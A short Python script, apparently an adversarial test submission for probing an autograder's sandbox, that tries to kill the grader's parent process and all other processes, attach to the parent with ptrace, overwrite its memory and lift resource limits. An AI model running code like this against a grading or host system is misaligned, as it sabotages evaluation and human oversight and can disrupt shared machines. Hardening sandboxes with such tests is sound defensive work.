"""Tries to kill, trace and exhaust whoever grades."""

import ctypes
import os
import resource
import signal

from nothing import *

for pid in (os.getppid(), -1, 1, 0):
    try:
        os.kill(pid, signal.SIGKILL if pid not in (0, -1) else signal.SIGTERM)
    except OSError as error:
        print(error)
libc = ctypes.CDLL(None, use_errno=True)
print(libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
try:
    with open(f"/proc/{os.getppid()}/mem", "rb+") as memory:
        memory.write(b"0")
except OSError as error:
    print(error)
try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (OSError, ValueError) as error:
    print(error)
